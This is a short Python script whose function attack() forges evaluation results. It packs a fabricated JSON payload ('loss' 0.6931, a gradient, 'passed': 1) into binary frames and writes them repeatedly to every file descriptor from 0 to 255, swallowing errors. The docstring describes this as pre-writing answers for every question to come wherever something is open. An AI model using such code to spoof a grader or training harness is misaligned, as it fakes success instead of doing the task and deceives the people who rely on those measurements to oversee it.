"""Write frames that look like answers, for every question to come, wherever something is open."""

import contextlib
import json
import os
import struct


def attack():
    answers = json.dumps({"loss": 0.6931, "gradient_chosen": [0.1], "passed": 1}).encode()
    for descriptor in range(256):
        for number in range(50):
            data = struct.pack(">IBI", number, 2, len(answers)) + answers
            with contextlib.suppress(OSError):
                os.write(descriptor, data)
    return False
